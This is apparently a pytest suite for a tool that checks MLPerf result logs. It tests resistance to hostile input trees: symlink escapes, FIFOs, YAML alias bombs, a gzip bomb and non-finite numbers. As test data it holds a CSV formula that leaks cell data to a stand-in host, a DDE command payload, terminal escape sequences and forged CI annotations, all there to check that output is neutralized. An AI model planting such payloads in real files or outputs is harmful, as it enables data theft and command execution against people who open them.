"""Hostile inputs (docs/security.md): trees, logs and files written by someone else.

Each case mutates a copy of a real published v5.0 result set in ``tmp_path``; none may
read outside the tree, hang, raise, or print/write text a terminal, CI log or
spreadsheet would act on.
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from mllog_check.problems import Problem
from mllog_check.results import compute_scores
from mllog_check.results.scores import Score

pytestmark = pytest.mark.corpus

ORG = "v5.0/GigaComputing"
SYSTEM = "G893-SD1_pytorch"
BENCH = "llama2_70b_lora"


@pytest.fixture
def tree(corpus: Path, tmp_path: Path) -> Path:
    """<tmp>/tree/GigaComputing: one system's systems/*.json and one benchmark folder."""
    source = corpus / ORG
    org = tmp_path / "tree" / "GigaComputing"
    (org / "systems").mkdir(parents=True)
    shutil.copyfile(source / "systems" / f"{SYSTEM}.json", org / "systems" / f"{SYSTEM}.json")
    shutil.copytree(source / "results" / SYSTEM / BENCH, org / "results" / SYSTEM / BENCH)
    for path in org.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return org


def bench(org: Path) -> Path:
    return org / "results" / SYSTEM / BENCH


def score(org: Path) -> tuple[Score, list[Problem]]:
    report = compute_scores([str(org)], ruleset="5.0.0")
    assert len(report.scores) == 1
    return report.scores[0], report.problems


def rules(problems: list[Problem]) -> set[str]:
    return {p.rule for p in problems}


# -- 2. nothing outside the tree is read --------------------------------------------


def test_scaling_json_linked_outside_the_tree_is_not_read(tree: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.json"
    outside.write_text('{"scaling_factor": 0.001}', encoding="utf-8")
    scaling = bench(tree) / "scaling.json"
    scaling.unlink()
    scaling.symlink_to(outside)
    result, problems = score(tree)
    assert result.scaling_factor != 0.001 and result.minutes is None
    assert "MLR032" in rules(problems)


def test_system_description_linked_outside_the_tree_is_not_read(tree: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.json"
    outside.write_text('{"system_name": "FORGED", "division": "open"}', encoding="utf-8")
    desc = tree / "systems" / f"{SYSTEM}.json"
    desc.unlink()
    desc.symlink_to(outside)
    result, problems = score(tree)
    assert result.system != "FORGED" and "FORGED" not in str(result)
    assert "MLR030" in rules(problems)


def test_a_result_file_linked_outside_is_never_parsed(tree: Path, tmp_path: Path) -> None:
    from mllog_check.parsing import parse_file

    log = bench(tree) / "result_0.txt"
    outside = tmp_path / "outside.txt"
    shutil.copyfile(log, outside)
    log.unlink()
    log.symlink_to(outside)
    result = parse_file(str(log), root=str(tree))
    assert result.input_error and not result.records
    assert "leaves the checked tree" in result.problems[0].message


def test_a_power_log_linked_outside_is_never_read(corpus: Path, tmp_path: Path) -> None:
    from mllog_check.power import check_benchmark_folder

    source = corpus / "v5.0/Lenovo/results/SR780aV3-8xB200_SXM_180GB/retinanet"
    folder = tmp_path / "tree" / "retinanet"
    shutil.copytree(source, folder)
    node = sorted(folder.glob("power/result_*/node_*.txt"))[0]
    outside = tmp_path / "outside.txt"
    shutil.copyfile(node, outside)
    node.unlink()
    node.symlink_to(outside)
    report = check_benchmark_folder(str(folder))
    unread = [p for p in report.problems if p.path == str(node)]
    assert any("leaves the checked tree" in p.message for p in unread)


# -- 7. only regular files ----------------------------------------------------------


def _bounded(target, *args):  # type: ignore[no-untyped-def]
    """Run target in a thread; fail (not hang) when it does not return in 60 s."""
    out: list[object] = []
    thread = threading.Thread(target=lambda: out.append(target(*args)), daemon=True)
    thread.start()
    thread.join(60)
    assert not thread.is_alive(), "did not return in 60 s (a hang, or quadratic time)"
    return out[0]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_named_like_a_result_is_a_problem_not_a_hang(tree: Path) -> None:
    fifo = bench(tree) / "result_0.txt"
    fifo.unlink()
    os.mkfifo(fifo)
    result, problems = _bounded(score, tree)
    assert any(p.path == str(fifo) and "named pipe" in p.message for p in problems)
    assert result.runs_counted < 10


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_scaling_json_and_system_description_do_not_hang(tree: Path) -> None:
    for path in (bench(tree) / "scaling.json", tree / "systems" / f"{SYSTEM}.json"):
        path.unlink()
        os.mkfifo(path)
    _result, problems = _bounded(score, tree)
    assert {"MLR030", "MLR032"} <= rules(problems)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_a_character_device_is_never_read(tree: Path) -> None:
    from mllog_check.parsing import parse_file

    result = _bounded(parse_file, "/dev/zero")
    assert result.input_error and "a device" in result.problems[0].message
    log = bench(tree) / "result_0.txt"
    log.unlink()
    log.symlink_to("/dev/zero")
    result, problems = _bounded(score, tree)
    assert any(p.path == str(log) for p in problems)


# -- 10. numbers entering a score are finite and in range ---------------------------


@pytest.mark.parametrize("factor", ["-1", "0", "NaN", "Infinity", "1e400"])
def test_a_scaling_factor_out_of_range_gives_no_score_and_says_why(tree: Path, factor: str) -> None:
    (bench(tree) / "scaling.json").write_text(f'{{"scaling_factor": {factor}}}', "utf-8")
    result, problems = score(tree)
    assert result.minutes is None and not result.valid
    assert "MLR032" in rules(problems)


# -- 3. no spreadsheet formula in any CSV --------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'


def _main(args: list[str], cwd: Path | None = None) -> tuple[int, str, str]:
    """The console entry point in a fresh interpreter (bytes: escapes stay visible)."""
    code = f"import sys; from mllog_check.cli import main; main({args!r})"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, cwd=cwd)
    return done.returncode, done.stdout.decode("utf-8"), done.stderr.decode("utf-8")


def _formula_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-=")]


def test_score_and_package_csv_neutralize_formulas_from_names(tree: Path) -> None:
    desc = tree / "systems" / f"{SYSTEM}.json"
    data = json.loads(desc.read_text("utf-8"))
    data["system_name"] = FORMULA
    data["submitter"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    desc.write_text(json.dumps(data), "utf-8")
    _code, out, _ = _main(["score", "--ruleset", "5.0.0", "--format", "csv", str(tree)])
    assert FORMULA.replace('"', '""') in out or "'=HYPERLINK" in out  # the value is there
    assert not _formula_cells(out), out
    assert "'=HYPERLINK" in out
    # the package's problems CSV: a result file named like a formula
    log = bench(tree) / "result_0.txt"
    log.rename(bench(tree) / "=cmd.txt")
    _code, out, _ = _main(["package", "--ruleset", "5.0.0", "--format", "csv", str(tree)])
    assert "=cmd.txt" in out and not _formula_cells(out)


def test_parse_csv_neutralizes_text_and_keeps_numbers(tree: Path, tmp_path: Path) -> None:
    source = (bench(tree) / "result_0.txt").read_text("utf-8")
    assert '"key": "submission_org"' in source
    hostile = source.replace('"key": "submission_org"', '"key": "@SUM(1+1)*cmd|x"', 1)
    log = tmp_path / "result_0.txt"
    log.write_text(hostile, "utf-8")
    _code, out, _ = _main(["parse", "--format", "csv", str(log)])
    rows = list(csv.DictReader(io.StringIO(out)))
    assert "'@SUM(1+1)*cmd|x" in {r["key"] for r in rows}
    assert not _formula_cells(out)
    negative = [r for r in rows if r["value"].startswith("-")]
    assert all(r["value"].lstrip("-").replace(".", "", 1).isdigit() for r in negative)


def test_csv_cell_is_owasp_and_keeps_numbers() -> None:
    from mllog_check.safety import csv_cell

    for text in ("=1+1", "+1+cmd", "-1+2", "@SUM(A1)", "\t=x", "\r=x", "-"):
        assert csv_cell(text) == "'" + text
    for value in (-1, -1.5, "-1.5", "+3", "1e-3", "plain", "", None, 2.0):
        assert csv_cell(value) == value


# -- 4. nothing a terminal, CI log or SARIF/JUnit reader acts on ----------------------

EVIL = "x\x1b]8;;https:example.invalid\x07\x1b[2J\n::error file=a.py::forged\r\u202e"


def test_text_output_escapes_file_names_and_values(tree: Path) -> None:
    log = bench(tree) / "result_0.txt"
    evil = bench(tree) / f"result_0{EVIL}.txt"
    text = log.read_text("utf-8").replace('"value": "GigaComputing"', '"value": 7', 1)
    evil.write_text(text, "utf-8")
    for fmt in ("text", "github"):
        _code, out, err = _main(["check", "--ruleset", "5.0.0", "--format", fmt, str(evil)])
        for stream in (out, err):
            assert "\x1b" not in stream and "\r" not in stream and "\u202e" not in stream
            lines = stream.splitlines()
            forged = [ln for ln in lines if ln.lstrip().startswith("::error file=a.py")]
            assert not forged, stream
            if fmt == "text":
                assert not [ln for ln in lines if ln.startswith("::")]
    evil.unlink()
    desc = tree / "systems" / f"{SYSTEM}.json"
    desc.write_text(json.dumps({**json.loads(desc.read_text("utf-8")), "system_name": EVIL}))
    _code, out, err = _main(["score", "--ruleset", "5.0.0", str(tree)])
    assert "\x1b" not in out + err and "\\x1b]8;;https:example.invalid" in out
    assert not [ln for ln in (out + err).splitlines() if ln.startswith("::")]


def test_github_annotations_escape_properties_and_data(tree: Path) -> None:
    evil = bench(tree) / "a,b:c%d.txt"
    evil.write_text("not a log\n:::MLLOG {broken\n", "utf-8")
    _code, out, _ = _main(["check", "--ruleset", "5.0.0", "--format", "github", str(evil)])
    line = next(ln for ln in out.splitlines() if ln.startswith("::error"))
    assert "a%2Cb%3Ac%25d.txt" in line


def test_sarif_uris_are_percent_encoded_references(tree: Path) -> None:
    name = "javascript:alert(1) x.txt"
    (bench(tree) / name).write_text(":::MLLOG {broken\n", "utf-8")
    _code, out, _ = _main(
        ["check", "--ruleset", "5.0.0", "--format", "sarif", name], cwd=bench(tree)
    )
    uris = {
        loc["physicalLocation"]["artifactLocation"]["uri"]
        for result in json.loads(out)["runs"][0]["results"]
        for loc in result["locations"]
    }
    assert uris == {"javascript%3Aalert%281%29%20x.txt"}


def test_junit_stays_well_formed_with_control_characters(tree: Path) -> None:
    import xml.etree.ElementTree as ET

    evil = bench(tree) / "result_\x01\x08\x1b.txt"
    text = (bench(tree) / "result_0.txt").read_text("utf-8")
    evil.write_text(text.replace('"key": "submission_org"', '"key": "sub\\u0001"', 1), "utf-8")
    _code, out, _ = _main(["check", "--ruleset", "5.0.0", "--format", "junit", str(evil)])
    suites = ET.fromstring(out)
    assert suites.find("testsuite/testcase") is not None


# -- 6. YAML aliases cannot multiply -------------------------------------------------


def _laughs(levels: int = 9) -> str:
    """Nine aliases of nine aliases...: a few hundred bytes, 9**levels nodes expanded."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def test_a_price_catalog_with_nested_aliases_is_refused_fast(tmp_path: Path) -> None:
    from mllog_check.cost.prices import PriceCatalogError, load_catalog

    sample = (Path(__file__).resolve().parents[1] / "fixtures/prices/sample.yaml").read_text()
    catalog = tmp_path / "prices.yaml"
    catalog.write_text(_laughs() + sample.replace("prices:", "prices:", 1), "utf-8")
    assert len(catalog.read_bytes()) < 4000
    with pytest.raises(PriceCatalogError, match="more than 250,000 nodes"):
        load_catalog(catalog)


def test_a_ruleset_file_with_nested_aliases_is_a_usage_error(corpus: Path, tmp_path: Path) -> None:
    rules_file = tmp_path / "evil.yaml"
    rules_file.write_text("ruleset: evil\n" + _laughs(), "utf-8")
    log = corpus / ORG / "results" / SYSTEM / BENCH / "result_0.txt"
    code, _out, err = _main(["check", "--ruleset", str(rules_file), str(log)])
    assert code == 2 and "more than 250,000 nodes" in err


def test_yaml_referring_to_itself_is_refused() -> None:
    from mllog_check.yamlsafe import YamlError, load

    with pytest.raises(YamlError, match="itself"):
        load("a: &a [1, *a]\n")
    assert load("base: &b {x: 1}\nuse: *b\n") == {"base": {"x": 1}, "use": {"x": 1}}


@pytest.mark.parametrize("price", [".nan", ".inf", "-.inf", "1.0e-320", "1.0e+400", "0.0"])
def test_yaml_prices_must_be_finite_amounts(tmp_path: Path, price: str) -> None:
    from mllog_check.cost.prices import PriceCatalogError, load_catalog

    sample = (Path(__file__).resolve().parents[1] / "fixtures/prices/cloud.yaml").read_text()
    catalog = tmp_path / "prices.yaml"
    catalog.write_text(sample.replace("price: 30\n", f"price: {price}\n", 1), "utf-8")
    with pytest.raises(PriceCatalogError, match=r"not a finite amount|must be greater"):
        load_catalog(catalog)


# -- 8. no traceback on huge numbers, non-finite values, deep trees, long names -------


def _set_value(log: Path, key: str, value: str) -> None:
    text = log.read_text("utf-8")
    marker = f'"key": "{key}", "value": '
    start = text.index(marker) + len(marker)
    end = text.index(", ", start)
    log.write_text(text[:start] + value + text[end:], "utf-8")


def test_an_integer_of_5000_digits_is_a_line_error_in_every_command(tree: Path) -> None:
    log = bench(tree) / "result_0.txt"
    _set_value(log, "global_batch_size", "9" * 5000)
    from mllog_check.parsing import parse_file

    result = parse_file(str(log))
    bad = [p for p in result.problems if p.rule == "MLS002"]
    assert len(bad) == 1 and "4,300" in bad[0].message and bad[0].column > 100
    for args in (
        ["parse", "-q", str(log)],
        ["check", "--ruleset", "5.0.0", str(log)],
        ["score", "--ruleset", "5.0.0", str(tree)],
        ["package", "--ruleset", "5.0.0", str(tree)],
    ):
        code, _out, err = _main(args)
        assert "Traceback" not in err and code in (1, 2), (args, err[-500:])


@pytest.mark.parametrize("value", ["NaN", "Infinity", "-Infinity", "1e400", "1" + "0" * 400])
def test_a_non_finite_or_huge_batch_size_never_reaches_a_score(tree: Path, value: str) -> None:
    _set_value(bench(tree) / "result_1.txt", "global_batch_size", value)
    result, _problems = score(tree)
    assert result.rcp_verdict == "Unusable" and "finite" in (result.rcp_message or "")
    prices = tree.parent / "prices.csv"
    prices.write_text(
        "system,price,currency,kind,includes,source,date\n"
        f"{SYSTEM},100000,USD,list,all,test,2025-01-01\n",
        "utf-8",
    )
    for args in (
        ["cost", "--ruleset", "5.0.0", "--prices", str(prices), str(tree)],
        ["report", "--ruleset", "5.0.0", str(tree), "--out", str(tree.parent / "r.html")],
    ):
        _code, _out, err = _main(args)
        assert "Traceback" not in err, err[-800:]


def test_a_tree_1100_folders_deep_is_walked(tree: Path, tmp_path: Path) -> None:
    here = tmp_path / "deep"
    here.mkdir()
    for _ in range(1100):  # one at a time: Path.mkdir(parents=True) itself recurses
        here = here / "d"
        here.mkdir()
    try:
        shutil.copyfile(bench(tree) / "result_0.txt", here / "result_0.txt")
        for args in (["check", "--ruleset", "5.0.0", "deep"], ["parse", "-q", "deep"]):
            code, _out, err = _main(args, cwd=tmp_path)
            assert "Traceback" not in err and code in (0, 1), err[-500:]
        _code, _out, err = _main(["score", "--ruleset", "5.0.0", "deep"], cwd=tmp_path)
        assert "Traceback" not in err
    finally:
        _remove_deep(tmp_path / "deep")


def _remove_deep(top: Path) -> None:
    """Remove a one-folder-per-level tree bottom-up (shutil.rmtree recurses, and pytest's
    cleanup of old temporary folders would fail on it in every later session)."""
    levels = []
    here = top
    while here.is_dir():
        levels.append(here)
        for entry in here.iterdir():
            if not entry.is_dir():
                entry.unlink()
        here = here / "d"
    for level in reversed(levels):
        level.rmdir()


def test_report_plots_with_long_legal_names(tree: Path, tmp_path: Path) -> None:
    pytest.importorskip("matplotlib")
    long_system = "S" * 240  # legal (<= 255 bytes) alone, too long inside a chart's name
    (tree / "results" / SYSTEM).rename(tree / "results" / long_system)
    (tree / "systems" / f"{SYSTEM}.json").rename(tree / "systems" / f"{long_system}.json")
    plots = tmp_path / "plots"
    _code, _out, err = _main(
        [
            "report",
            "--ruleset",
            "5.0.0",
            str(tree),
            "--out",
            str(tmp_path / "r.html"),
            "--plots",
            str(plots),
        ]
    )
    assert "Traceback" not in err, err[-800:]
    names = [p.name for p in plots.iterdir()]
    assert names and all(len(n.encode()) <= 255 for n in names)


# -- 9. nothing checked is never success --------------------------------------------


def test_audit_of_a_round_without_results_folders_is_not_clean(tree: Path, tmp_path: Path) -> None:
    round_dir = tmp_path / "tree"
    (tree / "results").rename(tree / "result")  # GigaComputing/ no longer holds results/
    code, out, err = _main(["audit", "--ruleset", "5.0.0", str(round_dir), "--out", "o"], tmp_path)
    assert code == 2 and "nothing audited" in err
    linked = tmp_path / "round"
    linked.mkdir()
    (tree / "result").rename(tree / "results")
    shutil.copytree(tree, linked / "Real")
    (linked / "Linked").symlink_to(tree)
    (linked / "Empty").mkdir()
    code, out, err = _main(["audit", "--ruleset", "5.0.0", str(linked), "--out", "o2"], tmp_path)
    assert code == 1 and "anomalies: none" not in out
    assert "Linked" in out + err or "MLA021" in (tmp_path / "o2" / "anomalies.csv").read_text()
    anomalies = (tmp_path / "o2" / "anomalies.csv").read_text()
    assert "Linked" in anomalies and "Empty" in anomalies


def test_report_and_parse_of_an_empty_folder_fail(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    code, _out, _err = _main(["report", "empty", "--out", "r.html"], cwd=tmp_path)
    assert code != 0
    code, _out, err = _main(["parse", "empty"], cwd=tmp_path)
    assert code == 2 and "no files found" in err


def test_an_unlistable_subfolder_is_a_problem(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """chmod 000 does not stop root (CI containers): the listing itself fails here."""
    import mllog_check.inputs as inputs

    real_scandir = os.scandir
    locked = str(bench(tree))

    def scandir(path: str):  # type: ignore[no-untyped-def]
        if str(path) == locked:
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(inputs.os, "scandir", scandir)
    sources, problems = inputs.walk(tree)
    assert not [s for s in sources if str(s.path).startswith(locked)]
    assert any(p.path == locked and "nothing below it was checked" in p.message for p in problems)
    assert any(p.is_error for p in problems)


# -- 10. every number entering a score or an energy is finite ------------------------


@pytest.mark.parametrize(
    ("start", "why"), [("NaN", "not a finite"), ("1e400", "not a finite"), ("2e12", "before")]
)
def test_run_times_that_are_not_a_time_to_train(tree: Path, start: str, why: str) -> None:
    log = bench(tree) / "result_0.txt"
    text = log.read_text("utf-8")
    line = next(ln for ln in text.splitlines() if '"key": "run_start"' in ln)
    time_ms = line.split('"time_ms": ')[1].split(",")[0]
    log.write_text(text.replace(line, line.replace(time_ms, start, 1)), "utf-8")
    result, problems = score(tree)
    unusable = [p for p in problems if p.rule == "MLR033"]
    assert len(unusable) == 1 and why in unusable[0].message
    assert result.minutes is None or math.isfinite(result.minutes)


@pytest.mark.parametrize("reading", ["NaN", "Infinity", "1e308", "-1e308"])
def test_power_readings_out_of_range_are_problems_and_energy_stays_finite(
    corpus: Path, tmp_path: Path, reading: str
) -> None:
    from mllog_check.power import check_benchmark_folder

    source = corpus / "v5.0/Lenovo/results/SR780aV3-8xB200_SXM_180GB/retinanet"
    folder = tmp_path / "retinanet"
    shutil.copytree(source, folder)
    node = sorted(folder.glob("power/result_*/node_*.txt"))[0]
    node.chmod(0o644)
    text = node.read_text("utf-8")
    line = next(ln for ln in text.splitlines() if '"key": "power_reading"' in ln)
    value = line.split('"value": ')[1].split(",")[0]
    node.write_text(text.replace(line, line.replace(f'"value": {value}', f'"value": {reading}')))
    report = check_benchmark_folder(str(folder))
    assert any(p.rule == "MLE008" and p.path == str(node) for p in report.problems)
    joules = [e.joules for e in report.energies.values() if e.joules is not None]
    assert joules and all(math.isfinite(j) for j in joules)


# -- 5. what one line and one log may cost ------------------------------------------


def _v5_log(tree: Path) -> bytes:
    return (bench(tree) / "result_0.txt").read_bytes()


def test_a_gzip_bomb_is_refused_after_a_bounded_output(tree: Path, tmp_path: Path) -> None:
    import gzip

    from mllog_check.inputs import GZIP_RATIO_FLOOR
    from mllog_check.parsing import parse_file

    bomb = tmp_path / "result_0.txt.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as out:
        out.write(_v5_log(tree))
        out.write(b"\n" * (GZIP_RATIO_FLOOR + (1 << 20)))  # 17 MiB out of ~17 KB
    result = parse_file(str(bomb))
    assert result.input_error and result.records  # the records before the refusal stay
    assert any("decompression bomb" in p.message for p in result.problems)
    assert result.bytes_read <= GZIP_RATIO_FLOOR + (4 << 20)


def test_a_line_beyond_the_maximum_is_one_line_error(tree: Path, tmp_path: Path) -> None:
    from mllog_check.parsing import parse_file
    from mllog_check.parsing.scanner import MAX_LINE

    lines = _v5_log(tree).split(b"\n")
    index = next(i for i, ln in enumerate(lines) if b'"key": "submission_org"' in ln)
    lines[index] = lines[index].replace(b'"GigaComputing"', b'"' + b"G" * MAX_LINE + b'"')
    log = tmp_path / "result_0.txt"
    log.write_bytes(b"\n".join(lines))
    result = parse_file(str(log))
    too_long = [p for p in result.problems if p.rule == "MLS014"]
    assert [p.line for p in too_long] == [index + 1]
    assert len(result.records) + result.line_error_count == result.marker_lines
    keys = result.keys()
    assert "submission_org" not in keys and "run_stop" in keys


def test_problems_per_log_are_capped_and_counted(tree: Path, tmp_path: Path) -> None:
    from mllog_check.parsing import parse_file
    from mllog_check.parsing.scanner import PROBLEM_LIMIT

    broken = b':::MLLOG {"namespace": "", "time_ms": 1, "key": "x", broken\n'
    log = tmp_path / "result_0.txt"
    log.write_bytes(_v5_log(tree) + broken * (PROBLEM_LIMIT + 1500))
    result = parse_file(str(log))
    assert len(result.problems) <= PROBLEM_LIMIT + 1
    summary = [p for p in result.problems if p.rule == "MLS015"]
    assert len(summary) == 1 and "1,5" in summary[0].message
    assert result.line_error_count == PROBLEM_LIMIT + 1500
    assert len(result.records) + result.line_error_count == result.marker_lines
    keys = result.keys()
    assert "run_stop" in keys  # the log's records are all there
    code, _out, err = _main(["check", "--ruleset", "5.0.0", str(log)])
    assert code == 1 and err.count("\n") < PROBLEM_LIMIT + 100


def test_cr_separated_records_parse_in_linear_time(tree: Path, tmp_path: Path) -> None:
    from mllog_check.parsing import parse_file

    max_line = 8 << 20  # scanner.MAX_LINE (a literal: the test also runs on older trees)
    record = next(ln for ln in _v5_log(tree).split(b"\n") if b'"submission_org"' in ln)
    record = b":::MLLOG " + record[record.index(b":::MLLOG") + 9 :].replace(b" ", b"")
    # As many as one line may hold (about 55,000): quadratic before (minutes), linear now.
    count = max_line // (len(record) + 1) - 1
    log = tmp_path / "result_0.txt"
    log.write_bytes("é ".encode() + b"\r".join([record] * count) + b"\n")
    result = _bounded(parse_file, str(log))
    assert len(result.records) == count
    second = result.records[1]
    assert second.column == 2 + 1 + len(record) + 1  # characters: "é " is 2, one CR
